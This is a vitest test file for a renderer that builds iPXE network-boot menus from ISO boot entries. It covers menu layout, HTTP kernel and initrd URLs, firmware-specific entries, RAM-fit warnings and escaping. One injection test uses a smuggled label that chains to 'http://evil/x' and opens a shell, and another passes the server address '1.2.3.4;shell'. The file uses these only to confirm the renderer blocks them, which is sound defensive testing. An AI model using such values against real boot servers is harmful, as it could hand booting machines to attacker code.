import { describe, expect, it } from 'vitest';
import { applyMenu, DEFAULT_MENU, ipxeArgs, ipxeText, renderIpxeScript } from '../../../main/boot';
import type { BootEntry, MenuSettings, PcInfo, SourceSummary } from '../../../main/contract';

function entry(id: string, over: Partial<BootEntry> = {}): BootEntry {
  return {
    id: `s1:${id}`,
    sourceId: 's1',
    label: id,
    kind: 'linux',
    kernel: '/arch/boot/x86_64/vmlinuz-linux',
    initrd: ['/arch/boot/intel-ucode.img', '/arch/boot/x86_64/initramfs-linux.img'],
    cmdline: 'archisobasedir=arch archiso_http_srv=http://<server>/iso/s1/ ip=dhcp',
    enabled: true,
    isDefault: false,
    origin: 'iso-menu',
    firmware: ['bios', 'uefi'],
    ...over,
  };
}

function source(entries: BootEntry[], over: Partial<SourceSummary> = {}): SourceSummary {
  return {
    id: 's1',
    path: '/isos/arch.iso',
    kind: 'iso',
    label: 'ARCH_202403',
    size: 1,
    family: 'archiso',
    osName: 'Arch Linux',
    fileSystems: [],
    entries,
    warnings: [],
    ...over,
  };
}

const SERVER = { ip: '192.168.1.10', httpPort: 8080 };
const menu = (over: Partial<MenuSettings> = {}): MenuSettings => ({ ...DEFAULT_MENU, ...over });

/** Commands this renderer may emit (iPXE 1.0.0+git-20190125 has all of them). */
const COMMANDS = new Set([
  'menu',
  'item',
  'choose',
  'goto',
  'set',
  'iseq',
  'isset',
  'imgfree',
  'imgfetch',
  'kernel',
  'initrd',
  'boot',
  'chain',
  'sanboot',
  'echo',
  'prompt',
  'exit',
  'shell',
]);

/** Structural check: known commands only, every goto/choose target is a label, labels unique. */
function lint(script: string): void {
  const lines = script.split('\n');
  expect(lines[0]).toBe('#!ipxe');
  const labels = new Set<string>();
  for (const l of lines)
    if (l.startsWith(':')) {
      expect(labels.has(l.slice(1)), `duplicate label ${l}`).toBe(false);
      labels.add(l.slice(1));
    }
  const items = new Set<string>();
  for (const l of lines) {
    if (l === '' || l.startsWith('#') || l.startsWith(':')) continue;
    for (const cmd of l.split(/ \|\| | && /)) {
      const words = cmd.trim().split(/\s+/);
      expect(COMMANDS.has(words[0]!), `unknown command in "${l}"`).toBe(true);
      if (words[0] === 'goto' && !words[1]!.startsWith('${'))
        expect(labels.has(words[1]!), `goto ${words[1]} has no label`).toBe(true);
      if (words[0] === 'item' && words[1] !== '--gap') items.add(words[1]!);
    }
  }
  for (const i of items) expect(labels.has(i), `item ${i} has no label`).toBe(true);
}

describe('renderIpxeScript', () => {
  it('renders a menu with sections, default, timeout, local disk and shell, in valid iPXE syntax', () => {
    const s = source([entry('a'), entry('b', { isDefault: true, cmdline: 'quiet' })]);
    const script = renderIpxeScript([{ summary: s }], menu(), SERVER);
    lint(script);
    expect(script).toContain('item --gap -- Arch Linux - ARCH_202403');
    expect(script).toContain('item bd-e0 a');
    expect(script).toContain('set bd-default bd-e1');
    expect(script).toContain('choose --timeout 5000 --default ${bd-default} bd-target || goto bd-shell');
    expect(script).toContain('item bd-local Boot from local disk');
    expect(script).toContain('sanboot --no-describe --drive 0x80');
    expect(script).toMatch(/iseq \$\{platform\} efi \|\| goto bd-local-bios\nexit/);
  });

  it('loads kernel and named initrds over HTTP with the server filled in, and initrd= for the EFI stub', () => {
    const script = renderIpxeScript([source([entry('a')])], menu(), SERVER);
    expect(script).toContain(
      'kernel http://192.168.1.10:8080/iso/s1/arch/boot/x86_64/vmlinuz-linux initrd=intel-ucode.img initrd=initramfs-linux.img archisobasedir=arch archiso_http_srv=http://192.168.1.10:8080/iso/s1/ ip=dhcp',
    );
    expect(script).toContain('initrd --name intel-ucode.img http://192.168.1.10:8080/iso/s1/arch/boot/intel-ucode.img');
    expect(script).toContain(
      'initrd --name initramfs-linux.img http://192.168.1.10:8080/iso/s1/arch/boot/x86_64/initramfs-linux.img',
    );
    expect(script).toMatch(/:bd-e0\nset bd-entry s1:a\necho Booting a\nimgfree\nkernel /);
    expect(script).toContain('boot || goto bd-failed');
  });

  it('URL-encodes path components and keeps duplicate initrd names apart', () => {
    const e = entry('a', { kernel: '/My Dir/vmlinuz#1', initrd: ['/a/initrd.img', '/b/initrd.img'] });
    const script = renderIpxeScript([source([e])], menu(), { ip: '10.0.0.1', httpPort: 80 });
    expect(script).toContain(
      'kernel http://10.0.0.1/iso/s1/My%20Dir/vmlinuz%231 initrd=initrd.img initrd=1-initrd.img',
    );
    expect(script).toContain('initrd --name 1-initrd.img http://10.0.0.1/iso/s1/b/initrd.img');
  });

  it('cannot be injected into through labels, per-entry or global arguments', () => {
    const evil = 'Evil\nshell ; chain http://evil/x || reboot ${net0/mac} #c';
    const s = source([entry('a', { isDefault: true })]);
    const script = renderIpxeScript(
      [s],
      menu({ append: 'quiet ; shell || reboot', overrides: { 's1:a': { label: evil, append: 'x=${root} #y z' } } }),
      SERVER,
    );
    lint(script);
    const lines = script.split('\n');
    const item = lines.find((l) => l.startsWith('item bd-e0'))!;
    expect(item).toBe('item bd-e0 Evil shell , chain http://evil/x | reboot $ {net0/mac} c');
    expect(script).not.toContain('${net0');
    const kernel = lines.find((l) => l.startsWith('kernel'))!;
    expect(kernel.endsWith('ip=dhcp z quiet shell reboot || goto bd-failed')).toBe(true);
    expect(lines.filter((l) => l === 'shell')).toHaveLength(1); // only our own shell entry
  });

  it('shows firmware-specific entries only on that firmware and picks a default per firmware', () => {
    const s = source(
      [
        entry('bios-test', {
          kind: 'linux',
          kernel: '/boot/memtest86+x64.bin',
          initrd: [],
          cmdline: '',
          firmware: ['bios'],
          isDefault: true,
        }),
        entry('efi-test', {
          kind: 'chain',
          kernel: '/EFI/BOOT/BOOTX64.EFI',
          initrd: [],
          cmdline: '',
          firmware: ['uefi'],
        }),
      ],
      { family: 'memtest' },
    );
    const script = renderIpxeScript([s], menu(), SERVER);
    lint(script);
    expect(script).toMatch(/iseq \$\{platform\} pcbios \|\| goto (bd-skip-\d+)\nitem bd-e0 bios-test\n:\1/);
    expect(script).toMatch(/iseq \$\{platform\} efi \|\| goto (bd-skip-\d+)\nitem bd-e1 efi-test\n:\1/);
    expect(script).toMatch(
      /set bd-default bd-e0\niseq \$\{platform\} efi \|\| goto bd-choose\nset bd-default bd-e1\n:bd-choose/,
    );
    expect(script).toContain('chain http://192.168.1.10:8080/iso/s1/EFI/BOOT/BOOTX64.EFI || goto bd-failed');
  });

  it('renders generic sanboot/memdisk entries from the raw ISO and the bundled memdisk', () => {
    const s = source(
      [
        entry('g', { kind: 'sanboot', kernel: undefined, initrd: [], cmdline: '', origin: 'generic' }),
        entry('m', {
          kind: 'memdisk',
          kernel: undefined,
          initrd: [],
          cmdline: 'iso raw',
          origin: 'generic',
          firmware: ['bios'],
        }),
      ],
      { family: 'generic' },
    );
    const script = renderIpxeScript([s], menu(), SERVER);
    lint(script);
    expect(script).toContain('sanboot --no-describe http://192.168.1.10:8080/iso/s1.iso || goto bd-failed');
    expect(script).toContain(
      'kernel http://192.168.1.10:8080/loaders/memdisk iso raw || goto bd-failed\ninitrd http://192.168.1.10:8080/iso/s1.iso || goto bd-failed',
    );
  });

  it('honours timeout 0 (wait), disabled entries, a chosen default, and rejects a bad server address', () => {
    const s = source([entry('a', { isDefault: true }), entry('b'), entry('c')]);
    const script = renderIpxeScript(
      [s],
      menu({ timeoutSec: 0, defaultEntryId: 's1:c', overrides: { 's1:b': { enabled: false } } }),
      SERVER,
    );
    lint(script);
    expect(script).toContain('choose --default ${bd-default} bd-target');
    expect(script).not.toContain('item bd-e1 b');
    expect(script).toContain('set bd-default bd-e1'); // c is the second enabled entry
    expect(() => renderIpxeScript([s], menu(), { ip: '1.2.3.4;shell', httpPort: 80 })).toThrow(/IPv4/);
    expect(() => renderIpxeScript([s], menu(), { ip: '1.2.3.4', httpPort: 0 })).toThrow(/port/);
  });
});

describe('renderIpxeScript with nothing to serve', () => {
  it('still renders a valid menu whose default is the local disk', () => {
    const script = renderIpxeScript([], menu(), SERVER);
    lint(script);
    expect(script).toContain('set bd-default bd-local');
    const empty = renderIpxeScript([source([entry('a', { enabled: false })])], menu(), SERVER);
    lint(empty);
    expect(empty).toContain('item --gap --   (nothing to boot from this source)');
  });
});

describe('applyMenu', () => {
  it('applies labels, enabled, per-entry and global args (not to memtest/sanboot) and keeps one default', () => {
    const s = source([
      entry('a', { isDefault: true }),
      entry('m', { kernel: '/boot/memtest', cmdline: '' }),
      entry('g', { kind: 'sanboot', cmdline: '' }),
    ]);
    const [out] = applyMenu(
      [s],
      menu({ append: 'console=ttyS0', overrides: { 's1:a': { label: 'Mine', append: 'nomodeset', enabled: false } } }),
    );
    expect(out!.entries[0]).toMatchObject({ label: 'Mine', enabled: false, isDefault: false });
    expect(out!.entries[0]!.cmdline.endsWith('ip=dhcp nomodeset console=ttyS0')).toBe(true);
    expect(out!.entries[1]!.cmdline).toBe('');
    expect(out!.entries[2]!.cmdline).toBe('');
    expect(out!.entries.filter((e) => e.isDefault).map((e) => e.id)).toEqual(['s1:m']);
  });
  it('puts extra arguments in front of a -- / --- separator, where the kernel still reads them', () => {
    const s = source([entry('a', { isDefault: true, cmdline: 'boot=casper ip=dhcp --- quiet splash' })]);
    const [out] = applyMenu([s], menu({ append: 'console=ttyS0', overrides: { 's1:a': { append: 'nomodeset' } } }));
    expect(out!.entries[0]!.cmdline).toBe('boot=casper ip=dhcp nomodeset console=ttyS0 --- quiet splash');
  });
});

describe('ipxeText / ipxeArgs', () => {
  it('neutralise newlines, expansions, control tokens and comments', () => {
    expect(ipxeText('a\r\nb ${x} && c # d #e')).toBe('a b $ {x} & c d e');
    expect(ipxeArgs('a "b c" ; || && #x ${y} z=${y}x ok')).toEqual(['a', '"b c"', 'ok']);
    expect(ipxeText('x'.repeat(100))).toBe('x'.repeat(69) + '...');
    expect(ipxeText('Troubleshooting › Démarrer — «Fedora» 日本')).toBe('Troubleshooting > Demarrer - <<Fedora>> ??');
  });
});

describe('renderIpxeScript for one PC (fits this PC?)', () => {
  const pc = (ramMiB: number | null, over: Partial<PcInfo> = {}): PcInfo => ({
    maker: 'QEMU',
    model: 'Standard PC (i440FX + PIIX, 1996)',
    ramMiB,
    ramSource: ramMiB === null ? null : 'smbios',
    platform: 'pcbios',
    arch: 'i386',
    nic: '82540em',
    ...over,
  });
  // an Ubuntu-like source that needs RAM for the whole ISO, then one that needs little
  const big = source([entry('live', { minRamMiB: 7 * 1024, isDefault: true })], {
    id: 'u',
    osName: 'Ubuntu 24.04',
    family: 'casper',
  });
  const small = source([entry('tiny', { id: 's2:tiny', sourceId: 's2', minRamMiB: 200 })], { id: 's2' });

  it('the generic menu first chains to itself with the PC facts, once (bd-asked), else runs on', () => {
    const script = renderIpxeScript([big, small], menu(), SERVER, 'ask');
    lint(script);
    const lines = script.split('\n');
    expect(lines[2]).toBe('isset ${bd-asked} && goto bd-start || set bd-asked 1');
    expect(lines[3]).toMatch(
      /^chain --autofree http:\/\/192\.168\.1\.10:8080\/boot\.ipxe\?pc=1&memsize=\$\{memsize\}&/,
    );
    expect(lines[3]).toContain('maker=${smbios/manufacturer:uristring}');
    expect(lines[3]).toMatch(/ \|\| goto bd-start$/);
    // without 'ask' (exports, inspect) nothing chains
    expect(renderIpxeScript([big], menu(), SERVER)).not.toContain('bd-asked');
  });

  it('marks and explains what needs more RAM than the PC has, and defaults to the first that fits', () => {
    const script = renderIpxeScript([big, small], menu(), SERVER, pc(4096, { ramSource: 'memsize' }));
    lint(script);
    expect(script).not.toContain('bd-asked');
    expect(script).toContain('item --gap -- This PC: QEMU Standard PC (i440FX + PIIX, 1996), 4 GiB RAM, BIOS');
    expect(script).toContain('item bd-e0 [too little RAM] live (needs ~7 GiB)');
    expect(script).toContain('item --gap --     Ubuntu 24.04 needs ~7 GiB, this PC has 4 GiB');
    expect(script).toContain('item bd-e1 tiny\n');
    expect(script).toContain('set bd-default bd-e1\niseq ${platform} efi || goto bd-choose\nset bd-default bd-e1');
    // picked by hand anyway: told why it will likely fail, with a way back
    const body = script.slice(script.indexOf(':bd-e0\n'));
    expect(body).toMatch(
      /echo Ubuntu 24\.04 needs ~7 GiB, this PC has 4 GiB: it will most likely fail to start\.\nprompt --key b --timeout 15000 .* && goto bd-start \|\|\necho Booting live/,
    );
    const fitting = script.slice(script.indexOf(':bd-e1\n'));
    expect(fitting.slice(0, fitting.indexOf('\n\n'))).not.toMatch(/^prompt/m);
  });

  it('keeps the chosen default when it fits; SMBIOS RAM is what the PC "reports"', () => {
    const script = renderIpxeScript([big, small], menu(), SERVER, pc(8192));
    expect(script).not.toContain('[too little RAM]');
    expect(script).toContain('set bd-default bd-e0');
    const tight = renderIpxeScript([big, small], menu(), SERVER, pc(1000));
    expect(tight).toContain('Ubuntu 24.04 needs ~7 GiB, this PC reports 1000 MiB');
  });

  it('marks nothing when the PC did not say its RAM, and falls back to the default when nothing fits', () => {
    const unknown = renderIpxeScript([big, small], menu(), SERVER, pc(null));
    expect(unknown).not.toContain('[too little RAM]');
    expect(unknown).toContain('item --gap -- This PC: QEMU Standard PC (i440FX + PIIX, 1996), BIOS');
    expect(unknown).toContain('set bd-default bd-e0');
    const none = renderIpxeScript([big, small], menu(), SERVER, pc(128));
    expect(none.match(/\[too little RAM\]/g)).toHaveLength(2);
    expect(none).toContain('set bd-default bd-e0');
  });
});
